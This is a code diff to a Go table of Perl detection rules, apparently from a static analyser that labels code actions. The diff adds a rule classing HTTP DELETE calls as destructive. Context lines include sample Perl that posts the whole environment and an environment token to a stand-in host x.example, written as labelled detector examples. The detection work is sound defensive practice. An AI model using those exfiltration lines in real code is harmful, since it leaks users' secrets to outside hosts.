@@ -130,6 +130,9 @@ var perlRules = [...]rule{
 	{name: "ua#post|ua#put|ua#patch|ua#post_form|ua#request", do: aSend, ex: `use LWP::UserAgent; LWP::UserAgent->new->post("https://x.example/c", \%ENV) => env:send` + "\n" +
 		`use HTTP::Tiny; my $h = HTTP::Tiny->new; $h->post("https://x.example/u", {content => "hi"}) => send:http https://x.example/u` + "\n" +
 		`use HTTP::Tiny; HTTP::Tiny->new->get("https://example.com") !> send:http https://example.com` + "\n"},
+	{name: "ua#delete", do: aHTTPDelete, ex: `use LWP::UserAgent; LWP::UserAgent->new->delete("https://api.example.com/x") => destroy:http https://api.example.com/x` + "\n" +
+		`use HTTP::Tiny; HTTP::Tiny->new->delete("https://api.example.com/x") => destroy:http https://api.example.com/x` + "\n" +
+		`my %h = (a => 1); delete $h{a}; !> -` + "\n"},
 	{name: "ua#get|LWP.Simple.get|LWP.Simple.head", do: aFetch, ex: `use LWP::Simple; get("https://x.example/?k=$ENV{TOKEN}") => var:send TOKEN` + "\n" +
 		`use LWP::Simple; get("https://example.com") !> send:http https://example.com` + "\n"},
 	{name: "IO.Socket.INET.new|IO.Socket.IP.new", do: aConnect, arg: 1, opt: "raw", ret: rSocket, ex: `use IO::Socket::INET; my $s = IO::Socket::INET->new(PeerAddr => "203.0.113.8:443") => send:raw 203.0.113.8:443` + "\n" +
